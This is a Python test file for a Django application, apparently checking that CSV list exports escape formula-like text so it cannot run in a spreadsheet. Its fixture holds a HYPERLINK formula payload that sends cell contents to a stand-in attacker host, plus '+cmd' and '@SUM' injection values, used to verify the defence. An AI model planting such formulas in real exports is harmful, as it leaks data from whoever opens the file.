"""List CSV exports: text a party typed never reaches the integrator's spreadsheet as a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from podium.apps.governance.services import forums as services
from podium.platform.lists import csv_response

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def _rows(response: Any) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(body)))


def test_csv_response_quotes_formulas_in_text_and_keeps_numbers() -> None:
    response = csv_response(
        [
            ["title", "owner", "delta", "amount"],
            [HYPERLINK, "@SUM(A1:A9)", -5, Decimal("-2.50")],
            ["+cmd", "Acme - EMEA", "-5", None],
        ],
        "export",
    )
    assert _rows(response) == [
        ["title", "owner", "delta", "amount"],
        ["'" + HYPERLINK, "'@SUM(A1:A9)", "-5", "-2.50"],
        ["'+cmd", "Acme - EMEA", "-5", ""],
    ]


@pytest.mark.django_db
def test_an_action_titled_as_a_formula_is_quoted_in_the_actions_export(world: Any) -> None:
    forum = services.ensure_forum(
        acting_user=None, slug="board", name="Board", kind="tactical_board"
    )
    services.set_membership(acting_user=None, forum=forum, party=world.supplier_a, role="member")
    services.add_action(
        acting_user=None,
        forum=forum,
        title=HYPERLINK,
        owner_party=world.supplier_a,
        due_on=dt.date(2026, 2, 1),
    )
    client = Client()
    client.force_login(world.users["integrator_admin"])
    response = client.get(reverse("governance:action_list") + "?export=csv")
    rows = _rows(response)
    titles = [row[0] for row in rows[1:]]
    assert titles == ["'" + HYPERLINK]
